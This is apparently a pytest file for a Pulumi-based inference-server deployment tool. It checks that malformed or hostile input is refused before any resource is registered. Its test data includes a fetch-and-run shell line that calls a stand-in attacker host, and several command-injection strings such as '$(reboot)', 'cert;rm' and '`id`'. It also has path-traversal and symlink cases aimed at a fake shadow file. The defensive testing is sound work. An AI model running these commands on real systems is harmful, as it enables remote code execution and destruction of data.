"""Bad input fails with a message naming the field, the value and the fix, before any resource is registered."""

from __future__ import annotations

import importlib.util
import runpy
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pulumi
import pytest

from inferstack.components import InferenceServer, backend, backend_for
from inferstack.components.program import read_stack_config
from inferstack.errors import InputError
from inferstack.preview import Recording
from inferstack.spec import CLOUDS
from tests.sample_plans import sample_plan

REPO = Path(__file__).resolve().parents[2]


def _rejected(run: Any, build: Callable[[], Any], config: dict[str, Any] | None = None) -> tuple[str, Recording]:
    """Run `build` under mocks expecting an InputError; return its message and what was registered."""

    def program() -> str:
        with pytest.raises(InputError) as caught:
            build()
        return str(caught.value)

    recording = run(program, config=config)
    return recording.value, recording


def _server(**args: Any) -> Callable[[], Any]:
    return lambda: InferenceServer("chat", {"plan": sample_plan("aws", "gpu-llm", "production"), **args})


#### Component arguments ####


@pytest.mark.parametrize(("cidr", "expected"), [
    ("10.0.0.300/24", "not a CIDR block"),
    ("203.0.113.7/24", "has host bits set (got '203.0.113.7/24'). Fix: use 203.0.113.0/24"),
    ("10.0.0.0/33", "not a CIDR block"),
    ("office", "not a CIDR block"),
])
def test_cidr_typo_names_the_entry_and_registers_nothing(run: Any, cidr: str, expected: str) -> None:
    message, recording = _rejected(run, _server(allowed_cidrs=["10.0.0.0/8", cidr]))
    assert "chat.allowed_cidrs[1]: " in message and expected in message and repr(cidr) in message
    assert recording.resources == []


def test_misspelt_argument_is_rejected(run: Any) -> None:
    message, recording = _rejected(run, _server(allowed_cidr=["10.0.0.0/8"]))
    assert "chat.allowed_cidr" in message and "not a known field" in message
    assert recording.resources == []


def test_public_endpoint_without_an_api_key_is_rejected(run: Any) -> None:
    message, recording = _rejected(run, _server(allowed_cidrs=["0.0.0.0/0"]))
    assert "chat.api_key" in message and "0.0.0.0/0" in message and "pulumi config set --secret" in message
    assert recording.resources == []


def test_private_networks_need_no_api_key(run: Any) -> None:
    recording = run(lambda: InferenceServer("chat", {
        "plan": sample_plan("aws", "gpu-llm", "validation"),
        "allowed_cidrs": ["10.0.0.0/8", "100.64.0.0/10", "fd00::/8"]}).endpoint_url)
    assert recording.of_type("aws:ec2/instance:Instance")


def test_network_without_subnets_is_rejected(run: Any) -> None:
    message, recording = _rejected(run, _server(network_id="vpc-0b1e55ed"))
    assert "network_id and subnet_ids come together" in message
    assert recording.resources == []


def test_load_balancer_subnets_without_the_network_they_belong_to_are_rejected(run: Any) -> None:
    # They would otherwise be dropped silently: the network is created, and its own subnets hold the load balancer.
    message, recording = _rejected(run, _server(api_key="k", api_domain="chat.example.com",
                                                load_balancer_subnet_ids=["subnet-0a1b2c3d", "subnet-0a1b2c3e"]))
    assert "chat.load_balancer_subnet_ids: are subnets of a brought network" in message
    assert recording.resources == []


@pytest.mark.parametrize("cloud", CLOUDS)
@pytest.mark.parametrize("prefix", ['models/") || true || ("/', "/models/x/", "models/x", "models/X Y/"])
def test_an_identity_created_alone_refuses_a_prefix_its_policies_cannot_hold(run: Any, cloud: str,
                                                                            prefix: str) -> None:
    # The prefix is written into each cloud's policy documents and Google's IAM condition expressions.
    from inferstack.components import ServerIdentity

    message, recording = _rejected(run, lambda: ServerIdentity("id", {"cloud": cloud, "model_bucket": "models-b",
                                                                     "model_prefix": prefix}))
    assert "id.model_prefix: must be a relative folder ending in '/'" in message and repr(prefix) in message
    assert recording.resources == []


@pytest.mark.parametrize(("cloud", "holds"), [("aws", "holds 8 zones"), ("huawei", "has room for 8 zones")])
def test_a_network_created_alone_is_refused_zones_its_private_subnets_cannot_hold(run: Any, cloud: str,
                                                                                   holds: str) -> None:
    from inferstack.components import Network

    message, recording = _rejected(run, lambda: Network("net", {"cloud": cloud, "instance_type": "g6e.xlarge",
                                                               "zones": 9, "private_servers": True}))
    assert f"net.zones: a fleet's network {holds}" in message and "(got 9)" in message
    assert recording.resources == []
    assert backend_for(cloud).network_problems(9, private_servers=False, field="net.zones") == []


def test_production_with_fewer_subnets_than_zones_is_rejected(run: Any) -> None:
    message, recording = _rejected(run, _server(network_id="vpc-0b1e55ed", subnet_ids=["subnet-0000000a"]))
    assert "chat.subnet_ids" in message and "give 2 subnets in distinct zones" in message
    assert recording.resources == []


BROUGHT_IDS = ("network_id", "subnet_ids", "load_balancer_subnet_ids", "security_group_ids", "instance_identity")
HOSTILE = "$(curl -s attacker.example | sh)"


@pytest.mark.parametrize("cloud", CLOUDS)
def test_each_clouds_example_ids_are_of_its_own_form(cloud: str) -> None:
    rules = backend_for(cloud).brought_ids
    for rule in (rules.network, rules.subnet, rules.firewall, rules.identity):
        assert rule.problem("f", rule.example) is None, (cloud, rule)
        assert rule.problem("f", HOSTILE) is not None


@pytest.mark.parametrize("cloud", CLOUDS)
@pytest.mark.parametrize("key", BROUGHT_IDS)
def test_a_brought_id_not_of_the_clouds_form_is_refused_naming_it_and_registers_nothing(run: Any, cloud: str,
                                                                                        key: str) -> None:
    rules = backend_for(cloud).brought_ids
    given = {"network_id": rules.network.example, "subnet_ids": [rules.subnet.example] * 2}
    given[key] = HOSTILE if key in ("network_id", "instance_identity") else [HOSTILE]
    plan = sample_plan(cloud, "gpu-llm", "validation")  # type: ignore[arg-type]
    message, recording = _rejected(run, lambda: InferenceServer("chat", {"plan": plan, **given}))
    kind = {"network_id": rules.network, "instance_identity": rules.identity, "security_group_ids": rules.firewall
            }.get(key, rules.subnet).kind
    assert f"chat.{key}: is not {kind} (got {HOSTILE!r})" in message
    assert recording.resources == []


@pytest.mark.parametrize(("key", "value", "expected"), [
    ("assets_domain", "$(reboot)", "chat.assets_domain: is not a lowercase DNS name"),
    ("assets_certificate", "cert;rm", "chat.assets_certificate: is not the id of the domain's certificate in SCM"),
    ("api_domain", "api.example.com/x", "chat.api_domain: is not a lowercase DNS name"),
    ("api_certificate", "`id`", "chat.api_certificate: is not the id of the domain's server certificate"),
])
def test_a_domain_or_certificate_the_plan_does_not_use_is_still_refused_when_malformed(
        run: Any, key: str, value: str, expected: str) -> None:
    # One server (no endpoint) with static assets off: none of the four is used, each is still checked.
    plan = sample_plan("huawei", "gpu-llm", "validation")
    message, recording = _rejected(run, lambda: InferenceServer("chat", {"plan": plan, "static_assets": False,
                                                                         key: value}))
    assert expected in message and repr(value) in message
    assert recording.resources == []


def test_plan_for_another_region_than_the_provider_is_rejected(run: Any) -> None:
    message, recording = _rejected(run, _server(), config={"aws:region": "eu-west-1"})
    assert "made for region us-east-1" in message and "eu-west-1" in message and "aws:region" in message
    assert recording.resources == []


@pytest.mark.parametrize("args", [{}, {"plan": "x", "workload": "y"}])
def test_plan_or_workload_exactly_one(run: Any, args: dict[str, Any]) -> None:
    if "plan" in args:
        args = {"plan": sample_plan(), "workload": {"model": "llama-3.1-8b", "traffic": {"requests_per_s": 1}}}
    message, recording = _rejected(run, lambda: InferenceServer("chat", args))  # type: ignore[arg-type]
    assert "exactly one of plan or workload" in message
    assert recording.resources == []


def test_all_problems_are_reported_at_once(run: Any) -> None:
    message, _ = _rejected(run, _server(allowed_cidrs=["1.2.3.4/8", "0.0.0.0/0"], subnet_ids=[]))
    assert "3 problem(s)" in message or message.count("\n  - ") >= 3


#### Stack config ####


def _config_rejected(run: Any, config: dict[str, Any]) -> str:
    message, recording = _rejected(run, read_stack_config, config=config)
    assert recording.resources == []
    return message


def test_unknown_cloud_lists_the_four_clouds(run: Any) -> None:
    message = _config_rejected(run, {"inferstack:cloud": "azure", "inferstack:plan": {}})
    assert "inferstack:cloud" in message and "'azure'" in message
    assert all(cloud in message for cloud in CLOUDS)


def test_missing_cloud_says_how_to_set_it(run: Any) -> None:
    assert "pulumi config set inferstack:cloud aws" in _config_rejected(run, {"inferstack:workload": {}})


def test_missing_workload_says_what_to_give(run: Any) -> None:
    message = _config_rejected(run, {"inferstack:cloud": "aws"})
    assert "exactly one of workload, workloadFile, plan, planFile" in message


def test_misspelt_config_key_suggests_the_right_one(run: Any) -> None:
    message = _config_rejected(run, {"inferstack:cloud": "aws", "inferstack:allowedCidr": ["10.0.0.0/8"]})
    assert "inferstack:allowedCidr:" in message and "did you mean inferstack:allowedCidrs?" in message


def test_cidr_typo_in_config_names_the_config_key(run: Any) -> None:
    message = _config_rejected(run, {"inferstack:cloud": "aws", "inferstack:plan": sample_plan().model_dump(
        mode="json"), "inferstack:allowedCidrs": ["10.0.0.0/8", "192.168.1.300/32"]})
    assert "inferstack:allowedCidrs[1]" in message and "'192.168.1.300/32'" in message


def test_incomplete_plan_lists_the_missing_fields_once(run: Any) -> None:
    message = _config_rejected(run, {"inferstack:cloud": "aws", "inferstack:plan": {"cloud": "aws"}})
    assert message.count("\n  - ") == 1 and "missing workload, stage, region" in message


def test_wrongly_typed_config_names_the_key(run: Any) -> None:
    message = _config_rejected(run, {"inferstack:cloud": "aws", "inferstack:plan": {},
                                     "inferstack:subnetIds": "subnet-0000000a"})
    assert "inferstack:subnetIds" in message


def test_a_stack_cloud_the_workload_does_not_allow_is_rejected(run: Any) -> None:
    workload = {"model": "llama-3.1-8b", "traffic": {"requests_per_s": 1}, "placement": {"clouds": ["aws"]}}
    message = _config_rejected(run, {"inferstack:cloud": "gcp", "inferstack:workload": workload})
    assert "inferstack:cloud: is not among the workload's allowed clouds (got 'gcp')" in message


def test_plan_for_another_cloud_than_the_stack_is_rejected(run: Any) -> None:
    message = _config_rejected(run, {"inferstack:cloud": "aws",
                                     "inferstack:plan": sample_plan("gcp").model_dump(mode="json")})
    assert "differs from the plan's cloud (gcp)" in message


def test_cloud_without_a_provisioning_module_says_which_clouds_are_ready(run: Any,
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    backend_for("huawei")  # registered, then made to look uninstalled
    monkeypatch.delitem(backend._BACKENDS, "huawei")
    find_spec = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec",
                        lambda name, *args: None if name == "inferstack.components.huawei" else find_spec(name, *args))
    message = _config_rejected(run, {"inferstack:cloud": "huawei", "inferstack:plan": {}})
    assert "inferstack:cloud: has no provisioning module yet (got 'huawei')" in message
    assert "deploy on one of: aws, gcp, alibaba" in message


def test_pulumi_program_reports_config_mistakes_without_a_traceback(run: Any, monkeypatch: Any) -> None:
    monkeypatch.chdir(REPO)

    def program() -> str:
        with pytest.raises(pulumi.RunError) as caught:
            runpy.run_path(str(REPO / "__main__.py"))
        return str(caught.value)

    recording = run(program, config={"inferstack:cloud": "aws"})
    assert "exactly one of workload, workloadFile, plan, planFile" in recording.value
    assert recording.resources == []


#### Files a stack names: inside the project, their contents never quoted ####

SECRET_LINE = "root:$6$not-a-real-hash:19000:0:99999:7:::"


@pytest.fixture
def outside_file(tmp_path_factory: Any) -> Path:
    """A file of the machine, outside the project, that a stack must not read: one line of YAML-parseable text."""
    path = tmp_path_factory.mktemp("machine") / "shadow"
    path.write_text(SECRET_LINE + "\n")
    return path


def _project(tmp_path: Path, monkeypatch: Any) -> Path:
    project = tmp_path / "project"
    project.mkdir()
    monkeypatch.chdir(project)  # read_stack_config reads the project in the working directory
    return project


@pytest.mark.parametrize("key", ["workloadFile", "planFile", "pricesFile"])
@pytest.mark.parametrize("where", ["absolute", "dotdot", "link"])
def test_a_file_outside_the_project_is_refused_without_reading_it(run: Any, tmp_path: Path, monkeypatch: Any,
                                                                   outside_file: Path, key: str, where: str) -> None:
    project = _project(tmp_path, monkeypatch)
    value = {"absolute": str(outside_file), "dotdot": f"../../{outside_file.parent.name}/shadow",
             "link": "shadow.yaml"}[where]
    if where == "link":
        (project / "shadow.yaml").symlink_to(outside_file)
    config: dict[str, Any] = {"inferstack:cloud": "aws", f"inferstack:{key}": value}
    if key == "pricesFile":
        config["inferstack:plan"] = sample_plan().model_dump(mode="json")
    message = _config_rejected(run, config)
    assert f"inferstack:{key}" in message
    assert "must be a path relative to the Pulumi project" in message or "leads outside the Pulumi project" in message
    assert "not-a-real-hash" not in message and "root:" not in message


def test_a_models_config_outside_the_project_is_refused(run: Any, tmp_path: Path, monkeypatch: Any,
                                                        outside_file: Path) -> None:
    _project(tmp_path, monkeypatch)
    config = outside_file.with_name("config.json")
    config.write_text('{"hidden_size": 4096}')
    workload = {"name": "chat", "model": {"config": str(config)}, "traffic": {"requests_per_s": 1}}
    message = _config_rejected(run, {"inferstack:cloud": "aws", "inferstack:workload": workload})
    assert "inferstack:workload: model.config: is outside the Pulumi project" in message
    assert "not-a-real-hash" not in message


def test_a_workload_file_that_is_not_a_mapping_is_refused_without_quoting_it(run: Any, tmp_path: Path,
                                                                              monkeypatch: Any) -> None:
    project = _project(tmp_path, monkeypatch)
    (project / "workload.yaml").write_text("not-a-real-hash-0123456789\n")  # a token, say: YAML reads a string
    message = _config_rejected(run, {"inferstack:cloud": "aws", "inferstack:workloadFile": "workload.yaml"})
    assert "workload: must be a mapping of fields (got a YAML/JSON str)" in message
    assert "not-a-real-hash" not in message
